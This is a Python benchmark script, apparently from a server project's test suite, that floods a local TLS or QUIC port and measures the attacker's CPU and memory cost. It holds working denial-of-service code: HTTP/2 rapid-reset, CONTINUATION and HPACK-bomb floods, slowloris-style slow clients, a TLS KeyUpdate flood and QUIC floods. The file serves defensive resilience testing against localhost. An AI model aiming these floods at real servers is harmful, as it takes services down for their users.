"""One hostile client, as fast as it can: `python -m tests.bench.flooder hostile NAME PORT SECONDS`.

Each attack is one round against the TLS (or QUIC) port: it connects, floods until it is cut and returns
the bytes it sent. What a round sends is made beforehand, so that the client spends as little as it can.
Prints a line when it begins, and one of JSON at its end. With `harmless` it burns as much time and sends
nothing to edge: what any busy client on the core does to those beside it.
"""

from __future__ import annotations

import fcntl
import json
import os
import resource
import select
import socket
import ssl
import sys
import termios
import time
import warnings
from array import array
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from functools import cache, partial
from pathlib import Path
from typing import Final

from aioquic.h3.connection import encode_frame

from tests.bench.quic_floods import (
    frames,
    initials,
    initials_to_nobody,
    qpack_bomb,
    resets,
    slow_body,
    slow_head,
    slow_read,
)
from tests.hostile.cases_h2 import FLOODS
from tests.hostile.fake_h2 import GET, POST, PREFACE, Heads, frame, settings

with warnings.catch_warnings(action="ignore", category=DeprecationWarning):  # it imports asyncore
    from tlslite.api import TLSConnection

Attack = Callable[[int, float], int]
"""(port, when to stop by the monotonic clock) → bytes sent."""

_LAST: Final = 5
_ROUND_S: Final = 3.0
_SLOW_CONNECTIONS: Final = 200
_SLOW_STREAMS: Final = 4
"""With as many connections fewer than a cluster has to its endpoints (`limits.maxConnections`, 1024): who is
slow on all of them waits for itself past its share."""
_SLOW_TICK_S: Final = 0.1
_KEY_UPDATES: Final = 20_000
_GOAWAY: Final = 7
_FORGET_PEAK: Final = "5"
"""Spec: proc_pid_clear_refs(5)."""
_H2: Final[dict[str, str]] = {
    "rapid-reset": "rapid-reset",
    "length-exceeded": "made-you-reset",
    "settings": "settings",
    "ping": "ping",
    "priority": "priority",
    "window-update": "window-update",
    "empty-data": "empty-data",
    "padding": "padding",
}


_unread_bytes: Final[list[int]] = []
"""Of each round, what the kernel kept that a slow client did not read: memory of the client's machine."""


# ---- TCP


@cache
def _context(alpn: str) -> ssl.SSLContext:
    context = ssl._create_unverified_context()
    context.set_alpn_protocols([alpn])
    return context


@contextmanager
def _connected(port: int, alpn: str, window_bytes: int = 0) -> Iterator[ssl.SSLSocket]:
    plain = socket.socket()
    if window_bytes:
        plain.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, window_bytes)
    plain.settimeout(_ROUND_S)
    plain.connect(("127.0.0.1", port))
    with _context(alpn).wrap_socket(plain, server_hostname="localhost") as made:
        yield made


def _until_cut(port: int, wire: bytes) -> int:
    with suppress(OSError), _connected(port, "h2") as client:
        client.sendall(wire)
        said = b""
        while not _is_cut(said) and (more := client.recv(65_536)):
            said += more
    return len(wire)


def _is_cut(said: bytes) -> bool:
    """Whether a GOAWAY is among these frames."""
    at = 0
    while len(said) - at >= 9:
        if said[at + 3] == _GOAWAY:
            return True
        at += 9 + int.from_bytes(said[at : at + 3], "big")
    return False


@cache
def _h2_wire(name: str) -> bytes:
    """As many units as end the connection, and half as many again."""
    (flood,) = [each for each in FLOODS if each.id.endswith(f"-{name}")]
    head = Heads()
    units = (flood.unit(number, head) for number in range(flood.at_most * 3 // 2))
    return PREFACE + settings() + flood.opening(head) + b"".join(units)


def _h2_flood(name: str, port: int, until: float) -> int:
    return _until_cut(port, _h2_wire(name))


def _continuations(port: int, until: float) -> int:
    block = Heads().block(GET)
    return _until_cut(port, PREFACE + settings() + frame(1, block, 1, 1) + frame(9, b"", 1, 0) * 10_000)


def _hpack_bomb(port: int, until: float) -> int:
    """One long field put into the table, then named by each byte of the next heads."""
    head = Heads()
    wire = PREFACE + settings() + head(1, [*GET, (b"x-long", b"v" * 3900)])
    for stream_id in range(3, 40, 2):
        wire += frame(1, head.block(GET) + b"\xbe" * 16_000, stream_id, 5)
    return _until_cut(port, wire)


def _slow(alpn: str, opening: bytes, drip: bytes, port: int, until: float) -> int:
    """Many connections that each begin something and go on by a byte now and then."""
    sent = 0
    held: list[ssl.SSLSocket] = []
    try:
        for _ in range(_SLOW_CONNECTIONS):
            client = _context(alpn).wrap_socket(socket.create_connection(("127.0.0.1", port), _ROUND_S))
            client.sendall(opening)
            sent += len(opening)
            held.append(client)
        while time.monotonic() < until:
            for client in held if drip else ():
                with suppress(OSError):
                    client.sendall(drip)
                    sent += len(drip)
            select.select([], [], [], _SLOW_TICK_S)
        _keep_unread(held)
    finally:
        for client in held:
            client.close()
    return sent


def _keep_unread(held: list[ssl.SSLSocket]) -> None:
    room = array("i", [0])
    total = 0
    for client in held:
        fcntl.ioctl(client, termios.FIONREAD, room)
        total += room[0]
    _unread_bytes.append(total)


def _slow_h1(line: str, rest: str, drip: bytes, port: int, until: float) -> int:
    return _slow("http/1.1", f"{line} HTTP/1.1\r\nhost: localhost\r\n{rest}".encode(), drip, port, until)


def _slow_h2(kind: str, port: int, until: float) -> int:
    head = Heads()
    begun = PREFACE + settings()
    if kind == "head":
        return _slow("h2", begun + frame(1, head.block(GET)[:3], 1, 1), b"", port, until)
    if kind == "body":
        return _slow("h2", begun + head(1, POST, False), frame(0, b"x", 1, 0), port, until)
    large = [*GET[:2], (b":path", b"/files/10m.bin"), GET[3]]
    asked = b"".join(head(2 * n + 1, large) for n in range(_SLOW_STREAMS))
    return _slow("h2", begun + asked, b"", port, until)


def _key_updates(port: int, until: float) -> int:
    """TLS 1.3 KeyUpdates that ask for one in return, by a client that reads none."""
    client = TLSConnection(socket.create_connection(("127.0.0.1", port), _ROUND_S))
    client.handshakeClientCert(serverName="localhost", alpn=[b"http/1.1"])
    sent = 0
    with suppress(OSError):
        while sent < _KEY_UPDATES and time.monotonic() < until:
            for _ in client.send_keyupdate_request(1):
                continue
            sent += 1
    client.sock.close()
    return sent * 27


ATTACKS: Final[dict[str, Attack]] = {
    **{f"h2 {shown}": partial(_h2_flood, name) for name, shown in _H2.items()},
    "h2 continuation": _continuations,
    "h2 hpack-bomb": _hpack_bomb,
    "h2 slow-head": partial(_slow_h2, "head"),
    "h2 slow-body": partial(_slow_h2, "body"),
    "h2 slow-read": partial(_slow_h2, "read"),
    "h1 slow-head": partial(_slow_h1, "GET /", "x-a: ", b"x"),
    "h1 slow-body": partial(_slow_h1, "POST /upload", "content-length: 99999\r\n\r\n", b"x"),
    "h1 slow-read": partial(_slow_h1, "GET /files/10m.bin", "\r\n", b""),
    "tls key-updates": _key_updates,
    "h3 resets": resets,
    "h3 empty-data": partial(frames, encode_frame(0, b"") * 100),
    "h3 unknown-frames": partial(frames, encode_frame(0x21, b"") * 100),
    "h3 qpack-bomb": qpack_bomb,
    "h3 slow-head": slow_head,
    "h3 slow-body": slow_body,
    "h3 slow-read": slow_read,
    "quic initials": initials,
}


def _harmless(port: int, until: float) -> int:
    while time.monotonic() < until:
        pass
    return 0


HARMLESS: Final[dict[str, Attack]] = {
    **dict.fromkeys(ATTACKS, _harmless),
    "quic initials": initials_to_nobody,
}
"""What does to the core that the load shares with a bystander what the attack does, and nothing to edge."""


def main(kind: str, name: str, port: str, seconds: str) -> None:
    """Rounds until the time is over."""
    attack = (HARMLESS if kind == "harmless" else ATTACKS)[name]
    had = _resident_mib()  # what Python and its libraries need to be there is not the flood's
    print("begun", flush=True)
    until = time.monotonic() + float(seconds)
    spent, sent, rounds = time.process_time(), 0, 0
    while time.monotonic() < until:
        sent += attack(int(port), until)
        rounds += 1
    told = {
        "rounds": rounds,
        "bytes": sent,
        "cpu_s": time.process_time() - spent,
        "mib": max(0.0, _most_mib() - had) + max(_unread_bytes, default=0) / 2**20,
    }
    print(json.dumps(told))


def _resident_mib() -> float:
    """Now; from here on `_most_mib` begins anew."""
    Path("/proc/self/clear_refs").write_text(_FORGET_PEAK)
    pages = int(Path("/proc/self/statm").read_text().split()[1])
    return pages * resource.getpagesize() / 2**20


def _most_mib() -> float:
    """The most that was resident at once."""
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024


if __name__ == "__main__":
    os.nice(_LAST)
    main(*sys.argv[1:])
